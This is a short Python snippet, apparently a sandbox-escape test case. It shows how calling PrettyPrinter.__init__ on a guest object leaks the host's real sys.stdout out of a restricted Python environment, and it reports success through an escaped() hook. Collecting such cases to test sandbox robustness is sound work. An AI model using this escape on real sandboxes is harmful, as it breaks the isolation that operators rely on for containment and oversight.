# technique: PrettyPrinter.__init__ stores its stream on the guest's own object
# source: reading pyrestrict and GraalPy's library
# goal: reach the real sys.stdout
# impact: introspect
import pprint
class F: pass
f = F()
pprint.PrettyPrinter.__init__(f)
s = f._stream
if hasattr(s, 'buffer'): escaped(s)
